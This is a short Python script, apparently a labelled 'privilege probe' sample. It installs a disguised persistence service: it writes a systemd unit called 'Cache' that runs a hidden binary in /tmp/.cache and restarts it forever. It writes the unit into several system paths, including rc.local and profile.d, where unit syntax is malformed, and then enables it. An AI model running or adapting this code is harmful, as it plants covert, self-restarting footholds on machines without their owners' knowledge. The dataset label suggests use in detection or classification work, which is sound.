# class: privilege probe; possible: low medium
import os, pathlib, subprocess
UNIT = "[Unit]\nDescription=Cache\n[Service]\nExecStart=/tmp/.cache/agent\nRestart=always\n[Install]\nWantedBy=multi-user.target\n"
for place in ("/etc/systemd/system/cached.service", "/lib/systemd/system/cached.service", "/etc/rc.local", "/etc/profile.d/z.sh"):
    try: pathlib.Path(place).write_text(UNIT)
    except OSError as e: print(place, e)
subprocess.run("systemctl enable --now cached", shell=True)
